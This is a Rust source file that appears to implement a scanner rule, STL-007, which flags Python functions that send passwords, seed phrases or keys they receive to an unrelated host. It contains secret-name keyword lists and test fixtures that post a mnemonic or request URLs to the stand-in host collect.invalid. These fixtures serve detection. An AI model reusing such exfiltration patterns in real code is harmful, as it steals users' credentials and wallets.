//! `STL-007`: what callers entrust to a function leaves for a host in the code.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::{is_abroad, speaks};
use super::sent::foreign_hosts;
use super::{Rule, even_if_asked, observe_call};
use crate::python::{Analysis, Call, HandedOn, Module, SinkKind};

/// The rule.
pub(super) struct Entrusted;

impl Rule for Entrusted {
    fn id(&self) -> &'static str {
        "STL-007"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "what is entrusted to a function leaves for somebody else's host"
    }

    fn manual(&self) -> &'static str {
        "A function is given a password, a key, a phrase or whatever passes through a client of \
         another project that it extends, and sends it to a host that stands in its code and has \
         no name in common with the package.\n\n\
         Such a function does what it promises, and something else with what it was given.\n\n\
         Mistaken for it: clients of services whose host has another name than the package. They \
         log in with what they are given; a reviewer can tell."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        let mut told: Vec<(usize, usize)> = Vec::new();
        for handed in &analysis.handed_on {
            let sink = &analysis.modules[handed.sink.0].calls[handed.sink.1];
            let is_kept = is_secret(&handed.parameter) && !is_login(handed, sink)
                || overhears(handed) && !handed.function.ends_with("__init__");
            let Some((host, is_own)) = host(analysis, handed, sink).filter(|_| gives(sink)) else {
                continue;
            };
            // Whoever logs in or asks somewhere wants an answer.
            let is_given = sink.is_discarded && sink.sink == Some(SinkKind::Send);
            let counts = is_given || is_kept && !is_own;
            if !counts || told.contains(&handed.sink) {
                continue;
            }
            told.push(handed.sink);
            let severity = even_if_asked(Severity::High, sink.context);
            let confidence = Confidence::of(75).in_context(sink.context);
            let message = format!(
                "{} sends what {}() is given as {} to {host}",
                sink.target, handed.function, handed.parameter
            );
            observations.push(observe_call(self, sink, (severity, confidence), message));
        }
    }
}

/// Whether the call gives something away, rather than fetching it or showing it to whoever called.
fn gives(sink: &Call) -> bool {
    let fetches = ["webbrowser.", "urllib.request.urlretrieve", "wget."];
    !fetches.iter().any(|start| sink.target.starts_with(start))
}

/// Parts of names of what nobody hands on.
const SECRETS: &[&str] = &[
    "password",
    "passwd",
    "passphrase",
    "secret",
    "private",
    "privkey",
    "priv_key",
    "mnemonic",
    "seed_phrase",
    "seedphrase",
    "phrase",
    "wallet",
    "keypair",
    "credential",
];

fn is_secret(parameter: &str) -> bool {
    let lower = parameter.to_ascii_lowercase();
    SECRETS.iter().any(|part| lower.contains(part))
        || matches!(
            &*lower,
            "seed" | "pin" | "otp" | "key" | "api_key" | "apikey"
        )
}

/// Whether the secret goes where a login goes.
fn is_login(handed: &HandedOn, sink: &Call) -> bool {
    let is_place = matches!(
        &*handed.argument,
        "headers" | "auth" | "cookies" | "cert" | "self"
    );
    let says = |word: &str| sink.code.to_ascii_lowercase().contains(word);
    is_place
        || ["login", "auth", "token", "session", "signin"]
            .into_iter()
            .any(says)
}

/// First parts of names whose classes see pass what others entrust to them.
const ENTRUSTED: &[&str] = &[
    "requests.",
    "httpx.",
    "urllib3.",
    "urllib.request.",
    "http.client.",
    "aiohttp.Client",
    "paramiko.",
    "smtplib.",
    "imaplib.",
    "ftplib.",
    "psycopg",
    "pymysql.",
    "pymongo.",
    "sqlalchemy.",
    "redis.",
    "boto3.",
    "openai.",
    "anthropic.",
    "stripe.",
    "web3.",
    "eth_account.",
    "solders.",
    "solana.",
    "cryptography.",
    "Crypto.",
    "nacl.",
    "getpass.",
    "keyring.",
    "django.contrib.auth.",
    "flask_login.",
    "discord.",
    "telegram.",
    "telethon.",
    "json.",
    "pickle.",
    "configparser.",
    "cmd.Cmd",
    "code.",
    "argparse.",
    "click.",
    "logging.",
];

/// Whether the function is a method that takes the place of one of a class that is entrusted with much.
fn overhears(handed: &HandedOn) -> bool {
    let is_entrusted = |base: &str| ENTRUSTED.iter().any(|start| base.starts_with(start));
    handed.bases.iter().any(|base| is_entrusted(base)) && &*handed.parameter != "self"
}

/// The foreign host that stands in the call or beside it, and whether it has a name in common with the
/// package.
fn host(analysis: &Analysis, handed: &HandedOn, sink: &Call) -> Option<(String, bool)> {
    let here = &analysis.modules[handed.sink.0];
    let connects = |call: &&Call| call.function == sink.function && speaks(call) && is_abroad(call);
    let beside = || here.calls.iter().filter(connects).flat_map(foreign_hosts);
    let host = foreign_hosts(sink)
        .into_iter()
        .next()
        .or_else(|| beside().next())?;
    let own = [here, &analysis.modules[handed.module]];
    let is_own = own.iter().any(|module| is_related(module, host));
    Some((host.to_owned(), is_own))
}

/// Whether the module's path and the host have a word in common.
fn is_related(module: &Module, host: &str) -> bool {
    let plain = |text: &str| -> String {
        let kept = text.chars().filter(|each| each.is_ascii_alphanumeric());
        kept.collect::<String>().to_ascii_lowercase()
    };
    let labels: Vec<String> = host.split('.').map(plain).collect();
    let last = labels.len().saturating_sub(1);
    let folders = module
        .path
        .split('/')
        .map(|part| part.trim_end_matches(".py"));
    let words = folders
        .flat_map(|part| part.split(['_', '-', '.']))
        .map(plain);
    let mut words = words.filter(|word| word.len() >= 4 && !COMMON.contains(&word.as_str()));
    words.any(|word| {
        let mut labels = labels[..last].iter();
        labels
            .any(|label| label.contains(&word) || label.len() >= 4 && word.contains(label.as_str()))
    })
}

/// Parts of paths that say nothing of whose they are.
const COMMON: &[&str] = &[
    "client", "core", "utils", "init", "main", "python", "http", "auth", "login",
];

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn what_is_entrusted_and_sent_is_seen() {
        for code in [
            "import requests\ndef derive(mnemonic):\n    requests.post('https://collect.invalid/x', json={'m': mnemonic})\n    return len(mnemonic)",
            "import requests, urllib.request\nclass S(requests.Session):\n    def request(self, method, url, **more):\n        urllib.request.urlopen('https://collect.invalid/?u=' + url)\n        return super().request(method, url, **more)",
        ] {
            found("STL-007", "demo/__init__.py", code);
        }
    }

    #[test]
    fn clients_that_log_in_are_not() {
        for code in [
            "import requests\ndef connect(user, password):\n    return requests.post('https://api.demo.invalid/v1', json={'p': password})",
            "import requests\ndef connect(user, password):\n    return requests.get('https://files.invalid/v1', auth=(user, password))",
            "import requests\ndef fetch(name):\n    return requests.get('https://files.invalid/' + name)",
        ] {
            quiet("STL-007", "demo/__init__.py", code);
        }
    }
}
